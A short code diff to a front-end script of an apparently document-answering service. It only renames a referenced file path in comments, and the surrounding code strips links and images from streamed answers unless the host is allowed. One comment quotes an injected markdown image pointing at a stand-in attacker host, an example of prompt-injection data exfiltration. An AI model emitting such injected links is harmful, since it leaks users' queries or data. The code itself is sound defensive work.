@@ -205,11 +205,11 @@
   /** Text with its [n] markers as buttons that open source n. */
   // Answers quote untrusted documents: a link or image is shown only for a host the admin
   // allowed (answer_link_hosts, https); any other is reduced to its text, so an injected
-  // `![x](http://attacker/?q=...)` fetches nothing and shows no address (server/untrusted.py
+  // `![x](http://attacker/?q=...)` fetches nothing and shows no address (service/untrusted.py
   // applies the same rule to the checked answer; this covers the raw streamed text).
   const LINK_HOSTS = new Set((document.body.dataset.linkHosts || "").split(",").filter(Boolean));
   const MD_LINK = /(!?)\[([^\]\n]{0,500})\]\(\s*<?([^\s()<>]*)>?(?:\s+"[^"\n]*")?\s*\)/g;
-  // The same forms as server/untrusted.py: scheme:// (or :\\), a fetching scheme without
+  // The same forms as service/untrusted.py: scheme:// (or :\\), a fetching scheme without
   // slashes, www., //host, \\host and /\host at a word's start, a bare domain with a path.
   const BARE_URL = new RegExp(
     "(?:[a-z][a-z0-9+.-]{0,31}:[/\\\\]{2}" +
